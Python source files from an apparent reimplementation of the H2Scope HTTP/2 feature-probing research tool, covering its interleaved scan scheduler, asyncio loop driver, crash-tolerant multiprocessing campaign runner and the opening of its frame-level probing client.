        # Hot-loop counters live in locals (attribute stores per handoff
        # were measurable at width 16k); flushed on completion/teardown.
        started = completed = handoffs = 0
        high_water = resident_high = 0
        makespan = 0.0
        try:
            while backlog or in_flight:
                while backlog and len(in_flight) < concurrency:
                    lane = self._admit(backlog.popleft(), global_now)
                    fresh.append(lane)
                    in_flight.add(lane)
                if len(in_flight) > high_water:
                    high_water = len(in_flight)
                # -- pick: min (position, index) over runnable lanes.
                # Fresh lanes are runnable only while a pool slot is
                # free; they are admission-ordered, and offsets are
                # monotone, so the deque head is their best entry.
                if profile is not None:
                    stamp = perf_counter()
                lane = policy.peek()
                if fresh and (pool_cap is None or started < pool_cap):
                    head = fresh[0]
                    if lane is None or (head.position, head.index) < (
                        lane.position,
                        lane.index,
                    ):
                        lane = head
                if profile is not None:
                    profile.pick_s += perf_counter() - stamp
                    profile.grants += 1
                first_grant = not lane.started
                if first_grant:
                    fresh.popleft()
                    policy.add(lane)
                    started += 1
                    if started > resident_high:
                        resident_high = started
                if lane.position > global_now:
                    global_now = lane.position
                # -- horizon: earliest other runnable lane + quantum.
                if profile is not None:
                    stamp = perf_counter()
                best_g, best_index = policy.best_other(lane)
                if fresh and (pool_cap is None or started < pool_cap):
                    head = fresh[0]
                    if head.position < best_g or (
                        head.position == best_g and head.index < best_index
                    ):
                        best_g, best_index = head.position, head.index
                lane.horizon_g = (
                    best_g + quantum if best_g < _INFINITY else best_g
                )
                lane.horizon_index = best_index
                if profile is not None:
                    profile.horizon_s += perf_counter() - stamp
                baton.clear()
                if first_grant:
                    self._start_lane(lane, started)
                else:
                    if profile is not None:
                        profile._grant_stamp = perf_counter()
                    lane.resume.set()
                # Exactly one lane runs between grants, so the baton can
                # only be set by ``lane`` parking or finishing.
                if profile is not None:
                    stamp = perf_counter()
                    baton.wait()
                    profile.baton_wait_s += perf_counter() - stamp
                else:
                    baton.wait()
                handoffs += 1
                if lane.finished:
                    policy.remove(lane)
                    in_flight.discard(lane)
                    started -= 1
                    completed += 1
                    if lane.position > global_now:
                        global_now = lane.position
                    if lane.position > makespan:
                        makespan = lane.position
                    if self._pool is None:
                        self._join_finished(lane)
                    if lane.failure is not None:
                        raise lane.failure
                    metrics.completed = completed
                    metrics.handoffs = handoffs
                    metrics.high_water = high_water
                    metrics.resident_high_water = resident_high
                    metrics.virtual_makespan = makespan
                    yield SiteResult(lane.task, lane.report)
                else:
                    policy.reposition(lane)
        finally:
            metrics.completed = completed
            metrics.handoffs = handoffs
            metrics.high_water = high_water
            metrics.resident_high_water = resident_high
            metrics.virtual_makespan = makespan
            self._teardown(in_flight)

    def _run_fuzz(self) -> Iterator:
        """Seeded-random scheduling: one event step per grant, a thread
        per lane, uniform pick over every in-flight lane — maximal
        interleaving randomness for the byte-stability battery."""
        from repro.scope.parallel import SiteResult

        rng = self._rng
        backlog = deque(self.tasks)
        active: list[_Lane] = []
        metrics = self.metrics
        baton = self._baton
        global_now = 0.0
        try:
            while backlog or active:
                while backlog and len(active) < self.concurrency:
                    lane = self._admit(backlog.popleft(), global_now)
                    active.append(lane)
                if len(active) > metrics.high_water:
                    metrics.high_water = len(active)
                lane = active[rng.randrange(len(active))]
                if lane.position > global_now:
                    global_now = lane.position
                # Park at every advance: the next step always yields.
                lane.horizon_g = -_INFINITY
                lane.horizon_index = -1
                baton.clear()
                if not lane.started:
                    started_now = 1 + sum(
                        1 for entry in active if entry.started
                    )
                    if started_now > metrics.resident_high_water:
                        metrics.resident_high_water = started_now
                    self._start_lane(lane, started_now)
                else:
                    lane.resume.set()
                baton.wait()
                metrics.handoffs += 1
                if lane.finished:
                    active.remove(lane)
                    metrics.completed += 1
                    if lane.position > global_now:
                        global_now = lane.position
                    if lane.position > metrics.virtual_makespan:
                        metrics.virtual_makespan = lane.position
                    self._join_finished(lane)
                    if lane.failure is not None:
                        raise lane.failure
                    yield SiteResult(lane.task, lane.report)
        finally:
            self._teardown(active)


def scan_interleaved(
    sites,
    tasks: Iterable,
    options,
    *,
    concurrency: int | None = None,
    policy_seed: int | None = None,
    metrics: ConcurrencyMetrics | None = None,
    grant_policy: str = "heap",
    lane_pool_size: int | None = None,
    profile: HandoffProfile | None = None,
) -> Iterator:
    """Scan ``tasks`` with up to ``concurrency`` interleaved sessions.

    Yields :class:`~repro.scope.parallel.SiteResult` in completion
    order (deterministic for the default policy; seeded-random for the
    fuzz battery's ``policy_seed``).  ``concurrency`` defaults to
    ``options.concurrency`` and is clamped to :data:`MAX_CONCURRENCY`
    (16384 lanes).  With one task or ``concurrency <= 1`` the scheduler
    machinery is bypassed entirely — the plain serial loop is both
    faster and the baseline the determinism battery diffs against.

    ``grant_policy`` selects the deterministic grant arithmetic:
    ``"heap"`` (O(log n), default) or ``"linear"`` (the retained PR 8
    reference) — the two are decision-identical, which the test battery
    proves.  ``lane_pool_size`` bounds how many lanes are mid-scan at
    once (``None`` = the :data:`LANE_POOL_ENV` knob or
    :data:`LANE_POOL_SIZE`; ``0`` = one thread per lane).
    """
    from repro.scope.parallel import SiteResult, _scan_one

    tasks = list(tasks)
    if concurrency is None:
        concurrency = getattr(options, "concurrency", 1)
    concurrency = max(1, int(concurrency))
    if (concurrency <= 1 or len(tasks) <= 1) and policy_seed is None:
        if metrics is not None:
            metrics.concurrency = concurrency
            metrics.admitted = metrics.completed = len(tasks)
            metrics.high_water = min(1, len(tasks))
            metrics.resident_high_water = min(1, len(tasks))
        makespan = 0.0
        for task in tasks:
            result = SiteResult(
                task, _scan_one(sites[task.site_index], task, options)
            )
            makespan += result.report.scan_virtual_time
            if metrics is not None:
                metrics.virtual_makespan = makespan
            yield result
        return
    scheduler = InterleavedScheduler(
        sites,
        tasks,
        options,
        concurrency=concurrency,
        policy_seed=policy_seed,
        metrics=metrics,
        grant_policy=grant_policy,
        lane_pool_size=lane_pool_size,
        profile=profile,
    )
    yield from scheduler.run()


# ---------------------------------------------------------------------------
# Shared asyncio loop driver (the socket backend's single event loop)
# ---------------------------------------------------------------------------


class LoopDriver:
    """One asyncio event loop on one thread, shared by many backends.

    The socket-backend sibling of the virtual-time scheduler: instead of
    every live session owning a private polling loop (PR 6's thread
    pool, which tops out around a few hundred sessions), all sockets
    multiplex onto this single loop and each session's ``run_until``
    blocks on an event the loop signals when *that* backend has
    activity.  See :class:`repro.net.socket_backend.SocketBackend` for
    the delivery contract (loop thread enqueues, session thread pumps).
    """

    def __init__(self) -> None:
        import asyncio

        self._loop = asyncio.new_event_loop()
        self._started = threading.Event()
        self._thread = threading.Thread(
            target=self._run, name="h2scope-loop", daemon=True
        )
        self._thread.start()
        self._started.wait()

    def _run(self) -> None:
        import asyncio

        asyncio.set_event_loop(self._loop)
        self._loop.call_soon(self._started.set)
        try:
            self._loop.run_forever()
        finally:
            self._loop.close()

    @property
    def loop(self):
        return self._loop

    def close(self) -> None:
        """Stop and release the loop (idempotent)."""
        if self._loop.is_closed():
            return
        try:
            self._loop.call_soon_threadsafe(self._loop.stop)
        except RuntimeError:  # pragma: no cover - already stopping
            pass
        self._thread.join(timeout=10.0)

    def __enter__(self) -> "LoopDriver":
        return self

    def __exit__(self, *exc) -> None:
        self.close()
