"""H2Scope — the paper's HTTP/2 feature-probing tool, reimplemented.

H2Scope talks to servers at the frame level (Section IV): it
establishes a connection, negotiates HTTP/2 via ALPN and/or NPN, sends
customised SETTINGS / HEADERS / PRIORITY / WINDOW_UPDATE / PING frames
— including deliberately protocol-violating ones — and classifies the
server's reaction.

* :mod:`repro.scope.client` — the frame-level client;
* :mod:`repro.scope.probes` — one module per measurement method of
  Section III;
* :mod:`repro.scope.report` — typed results and the per-site report;
* :mod:`repro.scope.scanner` — the population scanner (Section IV-B's
  thread-pool scanner, expressed over per-site simulations);
* :mod:`repro.scope.resilience` — virtual-time deadlines, the
  transient/timeout/fatal failure taxonomy, and retry with
  deterministic exponential backoff.
"""

from repro.scope.client import ScopeClient
from repro.scope.report import ScanError, SiteReport, summarize_errors
from repro.scope.resilience import BackoffPolicy, ResilienceConfig
from repro.scope.scanner import scan_population, scan_site

__all__ = [
    "BackoffPolicy",
    "ResilienceConfig",
    "ScanError",
    "ScopeClient",
    "SiteReport",
    "scan_population",
    "scan_site",
    "summarize_errors",
]
