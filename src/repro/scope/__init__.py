"""H2Scope — the paper's HTTP/2 feature-probing tool, reimplemented.

H2Scope talks to servers at the frame level (Section IV): it
establishes a connection, negotiates HTTP/2 via ALPN and/or NPN, sends
customised SETTINGS / HEADERS / PRIORITY / WINDOW_UPDATE / PING frames
— including deliberately protocol-violating ones — and classifies the
server's reaction.

* :mod:`repro.scope.client` — the frame-level client;
* :mod:`repro.scope.probes` — one module per measurement method of
  Section III;
* :mod:`repro.scope.report` — typed results and the per-site report;
* :mod:`repro.scope.scanner` — the population scanner (Section IV-B's
  thread-pool scanner, expressed over per-site simulations);
* :mod:`repro.scope.resilience` — virtual-time deadlines, the
  transient/timeout/fatal failure taxonomy, and retry with
  deterministic exponential backoff;
* :mod:`repro.scope.campaign` — the crash-safe campaign journal:
  manifests, per-site status rows, checkpoint/resume, quarantine.
"""

from repro.scope.campaign import (
    CampaignInterrupted,
    CampaignJournal,
    CampaignManifest,
    CampaignResult,
    ManifestMismatch,
    SiteStatus,
)
from repro.scope.client import ScopeClient
from repro.scope.report import ScanError, SiteReport, summarize_errors
from repro.scope.resilience import BackoffPolicy, ResilienceConfig
from repro.scope.scanner import (
    ScanProgress,
    run_campaign,
    scan_population,
    scan_site,
)

__all__ = [
    "BackoffPolicy",
    "CampaignInterrupted",
    "CampaignJournal",
    "CampaignManifest",
    "CampaignResult",
    "ManifestMismatch",
    "ResilienceConfig",
    "ScanError",
    "ScanProgress",
    "ScopeClient",
    "SiteReport",
    "SiteStatus",
    "run_campaign",
    "scan_population",
    "scan_site",
    "summarize_errors",
]
