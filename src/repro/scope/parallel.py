"""Sharded campaign execution: N scanning workers, one journal writer.

The paper's H2Scope reached the Alexa top-1M only by parallelizing the
prober (a poll() loop plus a thread pool); our per-site simulation
universes are CPU-bound Python, so the equivalent lever here is
multiprocessing.  PR 2 made every site's universe deterministic across
processes (stable blake2b seeds keyed on ``(seed, site_index)``), which
is exactly the property that makes sharding safe: a site's report is a
pure function of the manifest, no matter which process scans it.

Architecture (one campaign, ``workers`` > 1)::

    parent (writer)                      worker processes
    ---------------                      ----------------
    todo list ──► per-worker task pipes ──► scan_site in a fresh
    reorder buffer ◄── per-worker result pipes ◄── universe per site
    │
    └─► SQLite journal (checkpoints, WAL single writer)

* **Single writer.**  Only the parent touches SQLite; workers stream
  ``(task, report)`` pairs back over pipes.  WAL's single-writer
  assumption and the atomic ``checkpoint_every`` flushes from PR 2 are
  untouched.
* **Pipes, not queues.**  Every worker gets its own result pipe, and
  the parent multiplexes them with ``connection.wait``.  A shared
  ``multiprocessing.Queue`` would be simpler but is unsafe against
  dying writers: its feeder thread takes a cross-process writer lock,
  and a worker that crashes (or is SIGKILLed) between writing and
  releasing wedges every other worker forever.  A pipe has exactly one
  writer, so a worker death can only ever break its own channel — the
  parent sees EOF, salvages any fully-sent result, and respawns.
* **Ordered writes.**  The parent holds out-of-order completions in a
  reorder buffer and releases them in todo order, so every checkpoint
  batch — and therefore the database byte stream — is identical to a
  serial run's.  An interrupt flushes the in-order prefix; anything
  still in flight is simply rescanned on resume into byte-identical
  reports.
* **Exact crash accounting.**  Tasks are dispatched in batches of up to
  ``concurrency`` to a specific worker (which interleaves them on its
  in-process scheduler, :mod:`repro.scope.concurrent`), and completions
  stream back one at a time, so when a worker dies the parent knows
  precisely which sites were still in flight.  A lost one-task batch
  charges that site's crash budget directly; a lost multi-task batch is
  requeued uncharged as one-task "suspect" batches so the killer site
  crashes a worker alone, gets charged exactly, and — after
  ``max_worker_crashes`` — a synthetic ``WorkerCrashed`` error report,
  while its innocent batch-mates rescan cleanly.
* **SIGINT discipline.**  Workers ignore SIGINT; a Ctrl-C lands on the
  parent, which unwinds through the generator, terminates the workers
  and lets ``run_campaign`` flush the journal and raise
  :class:`~repro.scope.campaign.CampaignInterrupted` as usual.

``workers <= 1`` (or a single task) runs everything in-process with no
multiprocessing machinery at all — through the in-process interleaving
scheduler when ``concurrency > 1``, else the plain serial loop that is
both the fast path for small populations and the serial baseline the
determinism tests diff against.
"""

from __future__ import annotations

import multiprocessing
import os
import signal
import warnings
from collections import deque
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from multiprocessing.connection import wait as _connection_wait

from repro.net.faults import FaultPlan
from repro.scope.report import ErrorClass, ScanError, SiteReport
from repro.scope.resilience import ResilienceConfig, make_scan_error
from repro.servers.site import Site

#: Environment escape hatch: set to ``1`` to deliberately oversubscribe
#: (determinism tests exercise multi-worker paths on single-core CI).
OVERSUBSCRIBE_ENV = "H2SCOPE_OVERSUBSCRIBE"


def effective_workers(requested: int, *, warn: bool = True) -> int:
    """Clamp a requested worker count to the machine's CPU count.

    BENCH_parallel_scan.json shows oversubscription is not just useless
    but actively harmful for this CPU-bound workload (8 workers on one
    core collapse to ~0.3x serial throughput), so a request beyond
    ``os.cpu_count()`` is capped with a :class:`RuntimeWarning` instead
    of silently honoured.  Results are unaffected either way — reports
    are byte-identical for any worker count.
    """
    requested = max(1, int(requested))
    if os.environ.get(OVERSUBSCRIBE_ENV) == "1":
        return requested
    cpus = os.cpu_count() or 1
    if requested > cpus:
        if warn:
            warnings.warn(
                f"--workers {requested} exceeds the {cpus} available CPU(s); "
                f"capping to {cpus} (set {OVERSUBSCRIBE_ENV}=1 to override)",
                RuntimeWarning,
                stacklevel=3,
            )
        return cpus
    return requested


def effective_concurrency(requested: int, *, warn: bool = True) -> int:
    """Clamp a requested lane width to the scheduler's 16384-lane ceiling.

    The interleaved scheduler's admission window stops buying modeled
    makespan beyond ~16k lanes (the longest site dominates) while
    per-lane bookkeeping keeps growing, so a wider request is capped
    with a :class:`RuntimeWarning` — the ``effective_workers`` idiom.
    Results are unaffected either way: reports are byte-identical for
    any lane width.
    """
    from repro.scope.concurrent import MAX_CONCURRENCY

    requested = max(1, int(requested))
    if requested > MAX_CONCURRENCY:
        if warn:
            warnings.warn(
                f"--concurrency {requested} exceeds the {MAX_CONCURRENCY}-lane "
                f"scheduler ceiling; capping to {MAX_CONCURRENCY}",
                RuntimeWarning,
                stacklevel=3,
            )
        return MAX_CONCURRENCY
    return requested


@dataclass(frozen=True)
class SiteTask:
    """One unit of scan work: a position in the todo list.

    ``position`` is the index into the *todo* list (the write order the
    journal must reproduce); ``site_index`` is the index into the full
    population (the universe seed key, stable across resumes).
    """

    position: int
    site_index: int
    domain: str
    prior_attempts: int = 0


@dataclass
class SiteResult:
    """One scanned site coming back from a worker (or the serial path)."""

    task: SiteTask
    report: SiteReport
    #: How many workers died scanning this site before a report emerged.
    worker_crashes: int = 0


@dataclass(frozen=True)
class ScanOptions:
    """Everything a worker needs to scan any site deterministically."""

    include: tuple[str, ...] | None
    seed: int
    fault_plan: FaultPlan | None = None
    resilience: ResilienceConfig | None = None
    #: In-flight sessions per process (:mod:`repro.scope.concurrent`);
    #: 1 = plain serial loop.  Results are byte-identical either way.
    concurrency: int = 1


def _scan_one(site: Site, task: SiteTask, options: ScanOptions) -> SiteReport:
    """Scan one site with the exact semantics of the serial loop:
    any exception becomes an error-bearing report, never a crash."""
    from repro.scope.scanner import scan_site

    try:
        return scan_site(
            site,
            include=options.include,
            seed=options.seed + task.site_index,
            fault_plan=options.fault_plan,
            resilience=options.resilience,
        )
    except Exception as exc:  # noqa: BLE001 - one site, one report
        report = SiteReport(domain=site.domain)
        report.errors.append(make_scan_error("scan", exc))
        return report


def _crash_report(task: SiteTask, crashes: int) -> SiteReport:
    """The report a site gets when it keeps killing its workers."""
    report = SiteReport(domain=task.domain)
    report.errors.append(
        ScanError(
            probe="worker",
            error_class=ErrorClass.FATAL,
            exception="WorkerCrashed",
            message=f"scan worker died {crashes} times on {task.domain}",
            attempts=crashes,
        )
    )
    return report


def _worker_main(
    parent_pid: int,
    task_conn,
    result_conn,
    sites: list[Site],
    options: ScanOptions,
) -> None:
    """Worker loop: pull tasks, scan, push results.

    SIGINT is ignored so an interactive Ctrl-C (which the terminal
    delivers to the whole process group) is orchestrated by the parent:
    it flushes the journal and tears the workers down deliberately.
    Workers also watch for the parent dying (hard kill): once orphaned
    they ``os._exit`` on their own instead of leaking — bypassing the
    interpreter's exit machinery, which could block on inherited
    resources whose peer no longer exists.
    """
    try:
        signal.signal(signal.SIGINT, signal.SIG_IGN)
    except ValueError:  # pragma: no cover - non-main-thread embedding
        pass
    while True:
        if not task_conn.poll(0.5):
            if os.getppid() != parent_pid:  # orphaned by a hard kill
                os._exit(1)
            continue
        try:
            batch = task_conn.recv()
        except (EOFError, OSError):  # parent closed the channel
            os._exit(1)
        if batch is None:
            return
        try:
            if len(batch) <= 1 or options.concurrency <= 1:
                for task in batch:
                    report = _scan_one(sites[task.site_index], task, options)
                    result_conn.send((task, report))
            else:
                from repro.scope.concurrent import scan_interleaved

                # Stream completions as the scheduler produces them so
                # the parent's reorder buffer (and a kill point) sees
                # the same granularity as the serial protocol.
                for result in scan_interleaved(sites, batch, options):
                    result_conn.send((result.task, result.report))
        except (BrokenPipeError, OSError):  # parent gone mid-send
            os._exit(1)


class _Worker:
    """Parent-side handle: process, both pipe ends, in-flight tasks.

    ``tasks`` maps position -> :class:`SiteTask` for the batch currently
    dispatched to the worker; completions are popped as they stream
    back, so on a crash the remainder is exactly what was lost.
    """

    __slots__ = ("proc", "task_conn", "result_conn", "tasks")

    def __init__(self, proc, task_conn, result_conn):
        self.proc = proc
        self.task_conn = task_conn
        self.result_conn = result_conn
        self.tasks: dict[int, SiteTask] = {}


def _mp_context():
    """Prefer fork (cheap, inherits the population); fall back to spawn."""
    try:
        return multiprocessing.get_context("fork")
    except ValueError:  # pragma: no cover - non-POSIX platforms
        return multiprocessing.get_context("spawn")


class ParallelCampaignRunner:
    """Shard site scans across worker processes, deterministically.

    The runner never touches storage: it turns a list of
    :class:`SiteTask` into a stream of :class:`SiteResult`, either in
    completion order (:meth:`iter_unordered`, for journal-free
    population scans) or in todo order (:meth:`iter_ordered`, for the
    campaign writer, via a reorder buffer).  Reports are byte-identical
    for any worker count because every site is scanned in its own
    universe seeded by ``(seed + site_index)``.
    """

    def __init__(
        self,
        sites: list[Site],
        *,
        workers: int = 1,
        include: Iterable[str] | None = None,
        seed: int = 0,
        fault_plan: FaultPlan | None = None,
        resilience: ResilienceConfig | None = None,
        max_worker_crashes: int = 3,
        poll_interval: float = 0.2,
        concurrency: int = 1,
    ):
        self.sites = sites
        self.workers = effective_workers(workers)
        self.options = ScanOptions(
            include=tuple(sorted(include)) if include is not None else None,
            seed=seed,
            fault_plan=fault_plan,
            resilience=resilience,
            concurrency=effective_concurrency(concurrency),
        )
        self.max_worker_crashes = max(1, int(max_worker_crashes))
        self.poll_interval = poll_interval

    # -- iteration ---------------------------------------------------------

    def iter_unordered(self, tasks: Iterable[SiteTask]) -> Iterator[SiteResult]:
        """Yield one :class:`SiteResult` per task, in completion order."""
        tasks = list(tasks)
        if self.workers <= 1 or len(tasks) <= 1:
            if self.options.concurrency > 1 and len(tasks) > 1:
                from repro.scope.concurrent import scan_interleaved

                yield from scan_interleaved(self.sites, tasks, self.options)
                return
            for task in tasks:
                yield SiteResult(
                    task, _scan_one(self.sites[task.site_index], task, self.options)
                )
            return
        yield from self._iter_multiprocess(tasks)

    def iter_ordered(self, tasks: Iterable[SiteTask]) -> Iterator[SiteResult]:
        """Yield results in todo (position) order via a reorder buffer.

        Positions must be the contiguous sequence ``0..len(tasks)-1``
        (they index the todo list).  Memory is bounded by the spread of
        in-flight completions, at most ``workers x concurrency``
        results.
        """
        tasks = list(tasks)
        buffered: dict[int, SiteResult] = {}
        expect = 0
        inner = self.iter_unordered(tasks)
        try:
            for result in inner:
                buffered[result.task.position] = result
                while expect in buffered:
                    yield buffered.pop(expect)
                    expect += 1
        finally:
            inner.close()

    # -- multiprocess engine ----------------------------------------------

    def _iter_multiprocess(self, tasks: list[SiteTask]) -> Iterator[SiteResult]:
        ctx = _mp_context()
        backlog: deque[SiteTask] = deque(tasks)
        # Tasks lost in a multi-task batch crash: the culprit is unknown,
        # so they are requeued *uncharged* as one-task batches — the
        # killer site then crashes a worker alone and gets charged
        # exactly, while innocent batch-mates scan cleanly.
        suspects: deque[SiteTask] = deque()
        crashes: dict[int, int] = {}
        workers: dict[int, _Worker] = {}
        try:
            for worker_id in range(min(self.workers, len(tasks))):
                workers[worker_id] = self._spawn(ctx, worker_id)
                self._dispatch(workers[worker_id], backlog, suspects)
            done = 0
            while done < len(tasks):
                by_conn = {
                    worker.result_conn: worker for worker in workers.values()
                }
                readable = _connection_wait(
                    list(by_conn), timeout=self.poll_interval
                )
                if not readable:
                    for result in self._reap(
                        ctx, workers, backlog, suspects, crashes
                    ):
                        done += 1
                        yield result
                    continue
                worker = by_conn[readable[0]]
                try:
                    task, report = worker.result_conn.recv()
                except (EOFError, OSError):
                    # EOF: the worker died.  Its pipe stays readable, so
                    # reap it *now* rather than waiting for a quiet poll.
                    for result in self._reap(
                        ctx, workers, backlog, suspects, crashes
                    ):
                        done += 1
                        yield result
                    continue
                worker.tasks.pop(task.position, None)
                self._dispatch(worker, backlog, suspects)
                done += 1
                yield SiteResult(task, report, crashes.get(task.position, 0))
        finally:
            self._shutdown(workers)

    def _spawn(self, ctx, worker_id: int) -> _Worker:
        task_r, task_w = ctx.Pipe(duplex=False)
        result_r, result_w = ctx.Pipe(duplex=False)
        proc = ctx.Process(
            target=_worker_main,
            args=(os.getpid(), task_r, result_w, self.sites, self.options),
            name=f"h2scope-worker-{worker_id}",
            daemon=True,
        )
        proc.start()
        # Drop the parent's copies of the child's ends immediately: the
        # child must be the *only* writer of its result pipe (so its
        # death reads as EOF) and later-forked siblings must not inherit
        # stale copies that would keep a dead worker's pipe open.
        task_r.close()
        result_w.close()
        return _Worker(proc, task_w, result_r)

    def _dispatch(
        self,
        worker: _Worker,
        backlog: deque[SiteTask],
        suspects: deque[SiteTask],
    ) -> None:
        """Send the worker its next batch once its current one is done.

        Suspects go first and strictly one at a time (crash
        attribution); otherwise the batch is up to ``concurrency``
        tasks, which is what the worker's in-process scheduler can
        keep in flight at once.
        """
        if worker.tasks:
            return
        if suspects:
            batch = [suspects.popleft()]
        elif backlog:
            width = max(1, self.options.concurrency)
            batch = [backlog.popleft() for _ in range(min(width, len(backlog)))]
        else:
            return
        worker.tasks = {task.position: task for task in batch}
        try:
            worker.task_conn.send(batch)
        except (BrokenPipeError, OSError):
            pass  # worker already dead: _reap sees tasks and requeues

    def _reap(
        self, ctx, workers, backlog, suspects, crashes
    ) -> list[SiteResult]:
        """Respawn dead workers; emit reports for crash-budget-spent sites.

        A worker that dies mid-site triggers a retry of exactly that
        site (its universe is deterministic, so the eventual report is
        unchanged); a site that keeps killing workers is charged to the
        crash budget and surfaced as a ``WorkerCrashed`` failure instead
        of wedging the campaign.  Results the worker fully sent before
        dying are salvaged from its pipe first, so a completion is never
        double-counted as a crash.  Losing a one-task batch charges that
        site; losing a multi-task batch cannot name the culprit, so the
        remainder is requeued uncharged as one-task suspect batches and
        the killer gets charged on its solo retry.
        """
        results: list[SiteResult] = []
        for worker_id, worker in list(workers.items()):
            if worker.proc.is_alive():
                continue
            try:
                while worker.result_conn.poll(0):
                    task, report = worker.result_conn.recv()
                    worker.tasks.pop(task.position, None)
                    results.append(
                        SiteResult(task, report, crashes.get(task.position, 0))
                    )
            except (EOFError, OSError):
                pass  # partial message: the send died with the worker
            worker.result_conn.close()
            worker.task_conn.close()
            worker.proc.join()
            lost = list(worker.tasks.values())
            worker.tasks = {}
            workers[worker_id] = replacement = self._spawn(ctx, worker_id)
            if len(lost) == 1:
                task = lost[0]
                crashes[task.position] = crashes.get(task.position, 0) + 1
                if crashes[task.position] >= self.max_worker_crashes:
                    results.append(
                        SiteResult(
                            task,
                            _crash_report(task, crashes[task.position]),
                            crashes[task.position],
                        )
                    )
                else:
                    replacement.tasks = {task.position: task}
                    try:
                        replacement.task_conn.send([task])
                    except (BrokenPipeError, OSError):
                        pass  # died instantly: next _reap charges it again
                    continue
            elif lost:
                suspects.extend(
                    sorted(lost, key=lambda task: task.position)
                )
            self._dispatch(replacement, backlog, suspects)
        return results

    def _shutdown(self, workers) -> None:
        for worker in workers.values():
            if worker.proc.is_alive():
                try:
                    worker.task_conn.send(None)
                except (BrokenPipeError, OSError):
                    pass
        for worker in workers.values():
            worker.proc.join(timeout=1.0)
            if worker.proc.is_alive():
                worker.proc.terminate()
                worker.proc.join(timeout=1.0)
            if worker.proc.is_alive():  # pragma: no cover - stuck in syscall
                worker.proc.kill()
                worker.proc.join(timeout=1.0)
            try:
                worker.task_conn.close()
                worker.result_conn.close()
            except OSError:  # pragma: no cover - already closed by _reap
                pass
