"""The frame-level probing client.

A :class:`ScopeClient` owns one connection to one site: TCP connect,
TLS hello (ALPN/NPN), then an :class:`~repro.h2.connection.H2Connection`
in **non-strict** mode so probes can send protocol-violating frames
(zero window updates, overflowing increments, self-dependent PRIORITY
frames).  Automatic window replenishment is off by default: most probes
need full manual control of flow-control windows (Algorithm 1 depends
on deliberately exhausting the connection window).

The client is a sans-IO driver: all transport and clock access goes
through a :class:`~repro.net.backend.TransportBackend`, so the same
probe logic runs against the discrete-event simulator (the default,
byte-identical to the pre-abstraction behavior) and against real
asyncio TCP sockets with wall-clock deadlines.  For backward
compatibility the constructor still accepts a plain simulated
``Network`` and exposes ``.network`` / ``.sim`` when one backs it.

Every received event and frame is timestamped and logged; probes work
from these logs.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.h2 import events as ev
from repro.h2.connection import ConnectionConfig, H2Connection, Side
from repro.h2.errors import H2Error
from repro.h2.frames import Frame, PriorityData
from repro.net.backend import as_backend
from repro.net.tls import (
    H2,
    HTTP11,
    decode_server_hello,
    encode_client_hello,
)

# Probe modules compare negotiated protocols against these tokens; they
# import them from here so the probe layer never touches repro.net.*
# directly (enforced by tests/scope/test_probe_layering.py).
__all__ = ["H2", "HTTP11", "ScopeClient", "TimedEvent", "TimedFrame", "DEFAULT_TIMEOUT"]
from repro.scope.resilience import (
    ConnectionRefusedFault,
    ConnectionResetFault,
    DnsFault,
    ProbePolicy,
    ProbeTimeout,
    TlsFault,
)

#: Default budget (backend clock-seconds) for a server-reaction wait.
DEFAULT_TIMEOUT = 8.0


@dataclass
class TimedEvent:
    """An event with the virtual time it was observed at."""

    at: float
    event: ev.Event


@dataclass
class TimedFrame:
    at: float
    frame: Frame


@dataclass
class TlsOutcome:
    connected: bool = False
    alpn_protocol: str | None = None
    npn_protocol: str | None = None
    chosen: str | None = None
    mechanism: str | None = None
    tcp_handshake_rtt: float | None = None


class ScopeClient:
    """One probing connection to one site."""

    def __init__(
        self,
        network,
        domain: str,
        port: int = 443,
        alpn: list[str] | None = None,
        offer_npn: bool = True,
        npn_prefs: list[str] | None = None,
        settings: dict[int, int] | None = None,
        auto_window_update: bool = False,
        enable_push: bool | None = None,
        trace=None,
    ):
        # ``network`` is a TransportBackend or a simulated Network.
        self.backend = as_backend(network)
        # Simulated-backend conveniences (None on wall-clock backends).
        self.network = getattr(self.backend, "network", None)
        self.sim = getattr(self.backend, "sim", None)
        self.domain = domain
        self.port = port
        self.alpn = [H2, HTTP11] if alpn is None else alpn
        self.offer_npn = offer_npn
        #: Client-side preference list for NPN selection (NPN lets the
        #: *client* choose from the server's advertisement).
        self.npn_prefs = [H2, HTTP11] if npn_prefs is None else npn_prefs
        self.initial_settings = dict(settings or {})
        if enable_push is not None:
            self.initial_settings[2] = int(enable_push)
        self.auto_window_update = auto_window_update

        self.endpoint = None  # duck-typed transport Endpoint
        self.conn: H2Connection | None = None
        self._trace = trace
        self.tls = TlsOutcome()
        self.events: list[TimedEvent] = []
        self.frames: list[TimedFrame] = []
        self.errors: list[str] = []
        self._hello_buffer = b""
        self._mode = "idle"
        #: Bytes that arrived while no parser was live: before the TLS
        #: hello started ("idle") or between hello completion and the
        #: protocol engine attaching ("negotiated").  The simulator
        #: never hits these windows (no time passes inside them), but a
        #: real TCP stack may coalesce the server hello with the first
        #: protocol bytes into one segment, and a server can speak
        #: before our hello; they are replayed when the mode settles.
        self._limbo_buffer = bytearray()
        self._raw_http1 = bytearray()
        self._http1_response_at: float | None = None
        #: Set when the *peer* closed the connection (reset/truncation).
        self.peer_closed = False

    # ------------------------------------------------------------------
    # Resilience policy (deadlines + classified failures)
    # ------------------------------------------------------------------

    def _policy(self) -> ProbePolicy | None:
        """The per-attempt policy installed by the resilience layer."""
        return getattr(self.backend, "probe_policy", None)

    def _clamp(self, timeout: float, what: str) -> float:
        """Clamp a wait to the policy deadline (raising once spent)."""
        policy = self._policy()
        if policy is not None and policy.deadline is not None:
            return policy.deadline.clamp(timeout, what=f"{self.domain}: {what}")
        return timeout

    def _budget(self, timeout: float, what: str) -> float:
        """Scale a probe-level timeout to the backend, then clamp it."""
        return self._clamp(self.backend.scale(timeout), what)

    def _raise_faults(self) -> bool:
        policy = self._policy()
        return policy is not None and policy.raise_faults

    # ------------------------------------------------------------------
    # Clock
    # ------------------------------------------------------------------

    @property
    def now(self) -> float:
        """Current backend clock reading (virtual or wall seconds)."""
        return self.backend.now

    def sleep(self, seconds: float) -> None:
        """Let ``seconds`` probe-level seconds elapse (backend-scaled)."""
        self.backend.sleep(self.backend.scale(seconds))

    def _wait(self, predicate, timeout: float) -> bool:
        """Advance the backend until ``predicate()`` or ``timeout``."""
        return self.backend.run_until(predicate, timeout)

    # ------------------------------------------------------------------
    # Connection establishment
    # ------------------------------------------------------------------

    def connect(self, timeout: float = DEFAULT_TIMEOUT) -> bool:
